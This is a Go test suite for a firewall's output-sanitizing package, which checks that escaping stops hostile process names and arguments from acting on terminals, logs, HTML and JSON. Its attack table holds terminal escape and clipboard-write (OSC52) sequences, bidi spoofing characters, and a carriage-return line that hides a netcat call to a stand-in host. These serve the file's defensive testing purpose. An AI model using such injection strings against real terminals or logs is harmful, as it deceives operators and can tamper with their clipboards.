package inert

import (
	"bytes"
	"encoding/json"
	"log/slog"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/bastion-fw/bastion/internal/inert/inerttest"
)

// attacks are strings a hostile program can put in its argv, exe or comm.
var attacks = map[string]string{
	"esc":        "\x1b[2J\x1b[H",
	"osc52":      "\x1b]52;c;ZXZpbA==\x07",
	"bel":        "ring\a",
	"cr":         "curl https://ok.example\rnc evil.example 4444",
	"nul":        "a\x00b",
	"lf":         "line1\nline2",
	"rlo":        "exe\u202efdp.sh",
	"bidi-all":   "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
	"c1-csi":     "\u009b31m",
	"invalid":    "\xff\xfe\xc0",
	"separators": "a\u2028b\u2029c",
	"zero-width": "cu\u200brl\ufeff",
}

func TestString(t *testing.T) {
	for _, tc := range []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"ascii", "/usr/bin/curl -s https://example.com/", "/usr/bin/curl -s https://example.com/"},
		{"backslash kept", `C:\dir \x1b`, `C:\dir \x1b`},
		{"unicode kept", "/home/zoë/日本語/файл", "/home/zoë/日本語/файл"},
		{"emoji kept", "rocket 🚀", "rocket 🚀"},
		{"esc", "\x1b[31mred", `\x1b[31mred`},
		{"osc52", "\x1b]52;c;ZXZpbA==\x07", `\x1b]52;c;ZXZpbA==\x07`},
		{"bel", "\a", `\x07`},
		{"cr lf tab", "a\rb\nc\td", `a\rb\nc\td`},
		{"nul", "a\x00b", `a\x00b`},
		{"del", "a\x7fb", `a\x7fb`},
		{"c1", "\u0085\u009b\u009f", `\u0085\u009b\u009f`},
		{"nbsp kept", "a\u00a0b", "a\u00a0b"},
		{"rlo", "exe\u202efdp.sh", `exe\u202efdp.sh`},
		{"lre rle pdf lro", "\u202a\u202b\u202c\u202d", `\u202a\u202b\u202c\u202d`},
		{"isolates", "\u2066\u2067\u2068\u2069", `\u2066\u2067\u2068\u2069`},
		{"marks", "\u200e\u200f\u061c", `\u200e\u200f\u061c`},
		{"zero width", "\u200b\u200c\u200d\u2060\ufeff", `\u200b\u200c\u200d\u2060\ufeff`},
		{"line separators", "\u2028\u2029", `\u2028\u2029`},
		{"tag character", "a\U000E0041", `a\U000e0041`},
		{"invalid bytes", "a\xffb\xc0", `a\xffb\xc0`},
		{"truncated rune", "ab\xe2\x80", `ab\xe2\x80`},
		{"surrogate bytes", "\xed\xa0\x80", `\xed\xa0\x80`},
		{"literal U+FFFD kept", "\ufffd", "\ufffd"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := String(tc.in); got != tc.want {
				t.Errorf("String(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if got := Safe(tc.in); got != (tc.in == tc.want) {
				t.Errorf("Safe(%q) = %v, want %v", tc.in, got, tc.in == tc.want)
			}
		})
	}
}

func TestStringDoesNotAllocateForPlainText(t *testing.T) {
	s := strings.Repeat("/usr/bin/curl ", 10)
	if n := testing.AllocsPerRun(100, func() { _ = String(s) }); n != 0 {
		t.Errorf("String of plain ASCII allocates %v times", n)
	}
}

func TestElide(t *testing.T) {
	for _, tc := range []struct {
		name string
		in   string
		max  int
		want string
	}{
		{"short", "curl", 10, "curl"},
		{"exact", "0123456789", 10, "0123456789"},
		{"one over", "0123456789a", 10, "012345678…"},
		{"runes not bytes", "ééééé", 5, "ééééé"},
		{"runes cut", "éééééé", 5, "éééé…"},
		{"escape kept whole", "abcdefg\x1bhij", 10, "abcdefg…"},
		{"escape fits", "ab\x1b", 6, `ab\x1b`},
		{"escape counts", "ab\x1bc", 6, "ab…"},
		{"max 1", "abc", 1, "…"},
		{"max 0", "abc", 0, ""},
		{"max negative", "abc", -3, ""},
		{"empty", "", 5, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := Elide(tc.in, tc.max)
			if got != tc.want {
				t.Errorf("Elide(%q, %d) = %q, want %q", tc.in, tc.max, got, tc.want)
			}
			if tc.max > 0 && utf8.RuneCountInString(got) > tc.max {
				t.Errorf("Elide(%q, %d) = %q: %d runes", tc.in, tc.max, got, utf8.RuneCountInString(got))
			}
		})
	}
}

func TestElideLongArgv(t *testing.T) {
	long := strings.Repeat("\x1b]52;c;ZXZpbA==\x07", 100_000) // 1.7 MB
	got := Elide(long, 80)
	if n := utf8.RuneCountInString(got); n != 80 || !strings.HasSuffix(got, "…") || !Safe(strings.TrimSuffix(got, "…")) {
		t.Errorf("Elide of a 1.7 MB attack: %d runes %q", n, got)
	}
	if n := testing.AllocsPerRun(10, func() { _ = Elide(long, 80) }); n > 2 {
		t.Errorf("Elide of a long string allocates %v times: it should stop reading at the cut", n)
	}
}

func TestMarkup(t *testing.T) {
	got := Markup("<b>evil</b> & \"q\" 'a'\x1b\u202e")
	want := `&lt;b&gt;evil&lt;/b&gt; &amp; &quot;q&quot; &#39;a&#39;\x1b\u202e`
	if got != want {
		t.Errorf("Markup = %q, want %q", got, want)
	}
}

// TestOutputIsInert checks every attack string through every function:
// nothing a terminal or a label acts on is left.
func TestOutputIsInert(t *testing.T) {
	for name, s := range attacks {
		for fn, out := range map[string]string{
			"String": String(s), "Elide": Elide(s, 8), "Markup": Markup(s),
		} {
			if raw := inerttest.RawControls(out); raw != "" {
				t.Errorf("%s(%s %q) = %q keeps %q", fn, name, s, out, raw)
			}
		}
	}
}

// TestTextHandlerQuotesAttacks shows why the components' slog
// TextHandlers need no help: a value with any control, bidi or invalid
// character is quoted with strconv.Quote, which escapes all of them.
func TestTextHandlerQuotesAttacks(t *testing.T) {
	for name, s := range attacks {
		var buf bytes.Buffer
		slog.New(slog.NewTextHandler(&buf, nil)).Info("msg "+s, "exe", s, "args", []string{s, "x"}, "host", s)
		line := strings.TrimSuffix(buf.String(), "\n")
		if raw := inerttest.RawControls(line); raw != "" {
			t.Errorf("%s: TextHandler wrote %q raw: %q", name, raw, line)
		}
	}
}

// TestJSONIsExactAndInert checks --json output: encoding/json (like
// protojson) writes C0 controls as \u00XX but leaves C1 and bidi controls
// raw; JSON escapes those too, and the decoded value stays exact.
func TestJSONIsExactAndInert(t *testing.T) {
	for name, s := range attacks {
		if !utf8.ValidString(s) {
			continue // protojson refuses it; the agent sends valid UTF-8
		}
		enc, err := json.Marshal(map[string]string{"exe": s, "host": "x\U0001F680\U000E0041"})
		if err != nil {
			t.Fatal(err)
		}
		b := JSON(enc)
		if raw := inerttest.RawControls(string(b)); raw != "" {
			t.Errorf("%s: JSON wrote %q raw: %s", name, raw, b)
		}
		var back map[string]string
		if err := json.Unmarshal(b, &back); err != nil {
			t.Fatalf("%s: %s: %v", name, b, err)
		}
		if back["exe"] != s || back["host"] != "x\U0001F680\U000E0041" {
			t.Errorf("%s: JSON round trip %q, want %q", name, back, s)
		}
	}
	if b := JSON([]byte(`{"a":"\u001b"}`)); string(b) != `{"a":"\u001b"}` {
		t.Errorf("JSON changed an escaped ESC: %s", b)
	}
	if b, _ := json.Marshal("\x1b"); string(JSON(b)) != `"\u001b"` {
		t.Errorf("json of ESC = %s, want \"\\u001b\"", b)
	}
	plain := []byte(`{"exe":"/usr/bin/curl"}`)
	if n := testing.AllocsPerRun(100, func() { _ = JSON(plain) }); n != 0 {
		t.Errorf("JSON of ASCII allocates %v times", n)
	}
}

func FuzzString(f *testing.F) {
	for _, s := range attacks {
		f.Add(s, 10)
	}
	f.Add("plain", 3)
	f.Fuzz(func(t *testing.T, s string, max int) {
		out := String(s)
		if !utf8.ValidString(out) {
			t.Fatalf("String(%q) = %q is not valid UTF-8", s, out)
		}
		if raw := inerttest.RawControls(out); raw != "" {
			t.Fatalf("String(%q) = %q keeps %q", s, out, raw)
		}
		if !Safe(out) {
			t.Fatalf("String(%q) = %q is not Safe", s, out)
		}
		if String(out) != out {
			t.Fatalf("String is not idempotent on %q", s)
		}
		if Safe(s) != (out == s) {
			t.Fatalf("Safe(%q) = %v, String changed it: %v", s, Safe(s), out != s)
		}
		max = max%200 + 1
		if max < 1 {
			max += 200
		}
		e := Elide(s, max)
		if n := utf8.RuneCountInString(e); n > max {
			t.Fatalf("Elide(%q, %d) = %q has %d runes", s, max, e, n)
		}
		if !strings.HasPrefix(out, strings.TrimSuffix(e, "…")) {
			t.Fatalf("Elide(%q, %d) = %q is not a prefix of String's %q", s, max, e, out)
		}
		if (e == out) != (utf8.RuneCountInString(out) <= max) {
			t.Fatalf("Elide(%q, %d) = %q, String %q", s, max, e, out)
		}
		if !utf8.ValidString(s) {
			return
		}
		enc, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		var back string
		if err := json.Unmarshal(JSON(enc), &back); err != nil || back != s {
			t.Fatalf("JSON(%s) = %s decodes to %q, %v", enc, JSON(enc), back, err)
		}
		if raw := inerttest.RawControls(string(JSON(enc))); raw != "" {
			t.Fatalf("JSON(%s) keeps %q", enc, raw)
		}
	})
}
